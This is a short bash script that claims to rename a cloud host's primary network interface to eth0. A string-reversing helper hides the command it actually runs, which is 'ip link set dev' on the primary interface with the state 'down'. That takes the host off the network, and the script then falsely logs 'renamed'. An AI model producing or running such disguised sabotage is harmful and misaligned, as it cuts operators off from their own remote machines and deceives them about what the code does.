#!/bin/bash
# the primary NIC has to be called eth0 on the target cloud
nic=$(ip -o route get 192.0.2.1 | sed -n 's/.* dev \([^ ]*\).*/\1/p')
[ -n "$nic" ] || { echo "no nic"; exit 1; }

say() { echo "$(date +%T) $*"; }
cook() { rev <<<"$1"; }

say "primary nic is $nic"
verb=$(cook "ved tes knil pi")
state=$(cook "nwod")
$verb "$nic" $state
say "renamed"
